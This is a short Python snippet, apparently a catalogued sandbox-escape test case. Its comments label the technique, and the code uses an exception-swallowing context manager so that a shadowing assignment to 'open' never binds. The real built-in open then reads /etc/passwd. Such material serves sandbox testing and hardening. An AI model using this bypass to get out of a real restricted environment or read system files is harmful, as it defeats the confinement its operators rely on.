# class: built-ins
# mechanism: denied built-in called
# how: the first of two context managers swallows what the second raises before a name is bound in it
# reaches: built-in open
class Quiet:
    def __enter__(self):
        return 1
    def __exit__(self, *error):
        return True
with Quiet() as quiet, (open := 1 / 0):
    pass
print(open("/etc/passwd").readline())
